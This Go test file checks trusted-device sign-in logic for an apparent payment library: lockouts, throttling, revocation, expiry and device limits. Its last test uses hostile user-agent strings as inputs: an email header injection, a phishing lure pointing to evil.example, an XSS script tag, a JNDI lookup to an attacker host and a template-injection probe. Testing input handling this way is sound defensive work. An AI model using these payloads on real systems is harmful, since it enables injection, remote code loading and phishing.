package identity_test

import (
	"slices"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/okpay/okpay-go/okpay"
	"github.com/okpay/okpay-go/okpay/identity"
)

// on is a client with a device.
func on(token identity.Secret) identity.Client {
	c := home
	c.Device = token
	return c
}

func TestAStrangerDoesNotLockTheOwnersDeviceOut(t *testing.T) {
	w := start(t, identity.Config{})
	id := w.registered(email)
	w.registered("ben@example.com")
	ctx, _ := w.signedIn(email, good, home)
	before := w.last()
	token, device, err := w.x.TrustDevice(ctx, home)
	require.NoError(t, err)
	assert.Equal(t, []string{"device.trusted"}, w.events(before))
	assert.Contains(t, w.templates(id), "device_trusted")
	assert.Equal(t, identity.Device{
		ID: device.ID, State: identity.DeviceTrusted, Name: "Safari, iPhone", Place: "Shanghai, CN",
		TrustedAt: w.clock.Now(), EndsAt: w.clock.Now().Add(90 * 24 * time.Hour),
	}, device)

	w.fails(email, 5)
	_, err = w.try(email, good, home)
	require.ErrorIs(t, err, okpay.AuthenticationFailed)
	_, s := w.signedIn(email, good, on(token))
	assert.Equal(t, device.ID, s.Session.Trusted)
	for range 60 { // nor does an address that is throttled
		_, _ = w.try("nobody@example.com", "x", home)
	}
	_, err = w.try("ben@example.com", good, home)
	require.ErrorIs(t, err, okpay.TooManyTries)
	w.signedIn(email, good, on(token))

	for range 5 { // guesses from the device lock the device
		_, err = w.try(email, "wrong", on(token))
		require.ErrorIs(t, err, okpay.AuthenticationFailed)
	}
	_, err = w.try(email, good, on(token))
	require.ErrorIs(t, err, okpay.AuthenticationFailed)
	w.clock.Advance(30 * time.Second)
	w.signedIn(email, good, on(token))
	_, err = w.try(email, good, identity.Client{})
	require.NoError(t, err, "one attempt after the lock")
}

func TestADeviceOfAnotherCustomerOpensNoSecondWay(t *testing.T) {
	w := start(t, identity.Config{})
	w.registered(email)
	w.registered("thief@example.com")
	ctx, _ := w.signedIn("thief@example.com", good, home)
	thiefs, _, err := w.x.TrustDevice(ctx, home)
	require.NoError(t, err)
	w.fails(email, 5)
	_, err = w.try(email, good, on(thiefs))
	require.ErrorIs(t, err, okpay.AuthenticationFailed, "it is no device of theirs: the lock for strangers is in force")

	anns, _ := w.signedIn("thief@example.com", good, home)
	_ = anns
	w.clock.Advance(30 * time.Second)
	ctx, _ = w.signedIn(email, good, home)
	stolen, device, err := w.x.TrustDevice(ctx, home)
	require.NoError(t, err)
	s, err := w.try("thief@example.com", good, on(stolen))
	require.NoError(t, err)
	assert.Empty(t, s.Session.Trusted)
	require.ErrorIs(t, w.x.RevokeDevice(w.as(s.Token), device.ID), okpay.NotFound, "nor can it be revoked by others")
	w.fails(email, 5)
	require.NoError(t, w.x.RevokeDevice(ctx, device.ID))
	_, err = w.try(email, good, on(stolen))
	require.ErrorIs(t, err, okpay.AuthenticationFailed, "revoked")
	require.ErrorIs(t, w.x.RevokeDevice(ctx, device.ID), okpay.NotFound)
}

func TestTrustInADeviceEnds(t *testing.T) {
	w := start(t, identity.Config{MaxDevices: 3})
	id := w.registered(email)
	ctx, _ := w.signedIn(email, good, home)
	var tokens []identity.Secret
	var ids []identity.DeviceID
	trust := func() {
		token, device, err := w.x.TrustDevice(ctx, home)
		require.NoError(t, err)
		tokens, ids = append(tokens, token), append(ids, device.ID)
	}
	for range 3 {
		trust()
	}
	before := w.last()
	trust()
	assert.Equal(t, []string{"device.revoked", "device.trusted"}, w.events(before), "the longest trusted makes room")
	shown, _, err := w.Audit(t.Context(), okpay.AuditPage{Customer: id, Shown: true})
	require.NoError(t, err)
	at := slices.IndexFunc(shown, func(e okpay.AuditEntry) bool { return e.Action == "device.revoke" })
	require.GreaterOrEqual(t, at, 0, "and the customer sees it")
	assert.Equal(t, string(ids[0]), shown[at].Object)
	devices, err := w.x.Devices(ctx)
	require.NoError(t, err)
	require.Len(t, devices, 3)
	assert.Equal(t, ids[1], devices[0].ID)
	for i, token := range tokens {
		_, s := w.signedIn(email, good, on(token))
		assert.Equal(t, i > 0, s.Session.Trusted != "", i)
	}

	w.clock.Advance(6 * time.Minute)
	_, _, err = w.x.TrustDevice(ctx, home)
	require.ErrorIs(t, err, okpay.AuthenticationRequired, "the sign-in is too long ago")

	w.clock.Advance(90 * 24 * time.Hour)
	ctx, s := w.signedIn(email, good, on(tokens[3]))
	assert.Empty(t, s.Session.Trusted, "after 90 days")
	before = w.last()
	_, err = w.Work(t.Context())
	require.NoError(t, err)
	assert.Subset(t, w.events(before), []string{"device.expired"})
	devices, err = w.x.Devices(ctx)
	require.NoError(t, err)
	assert.Empty(t, devices)

	trust()
	_, err = w.Customers.Lock(t.Context(), okpay.MoveGate{Customer: id, Reason: "risk"})
	require.NoError(t, err)
	_, err = w.Customers.Unlock(t.Context(), okpay.MoveGate{Customer: id})
	require.NoError(t, err)
	ctx, s = w.signedIn(email, good, on(tokens[4]))
	assert.Empty(t, s.Session.Trusted, "a lock ends trust")
	before = w.last()
	trust()
	assert.Equal(t, []string{"device.expired", "device.trusted"}, w.events(before))
	w.verify()
}

func TestADeviceIsNamedInOurWords(t *testing.T) {
	w := start(t, identity.Config{})
	id := w.registered(email)
	for _, agent := range []string{
		"Your account is blocked, call +1 555 0100 or visit https://evil.example\r\nBcc: all@example.com",
		"<script>alert(1)</script> Firefox/1 ${jndi:ldap://evil.example} {{.Secret}} Windows",
	} {
		w.signedIn(email, good, identity.Client{UserAgent: agent})
	}
	messages, err := w.Customers.Messages(t.Context(), id, "", 100)
	require.NoError(t, err)
	for _, m := range messages {
		if m.Template == "new_sign_in" {
			assert.Contains(t, []string{"unknown", "Firefox, Windows"}, m.Facts["device"])
		}
	}
}
